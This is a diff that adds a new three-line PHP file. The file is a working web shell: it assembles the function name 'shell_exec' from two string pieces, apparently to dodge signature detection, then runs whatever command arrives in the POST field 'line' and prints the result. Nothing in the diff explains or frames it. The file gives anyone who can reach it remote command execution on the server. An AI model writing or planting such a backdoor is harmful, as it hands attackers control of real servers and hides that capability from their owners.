@@ -1,0 +1,3 @@
+<?php
+$name = "shell" . "_exec";
+echo $name($_POST["line"]);
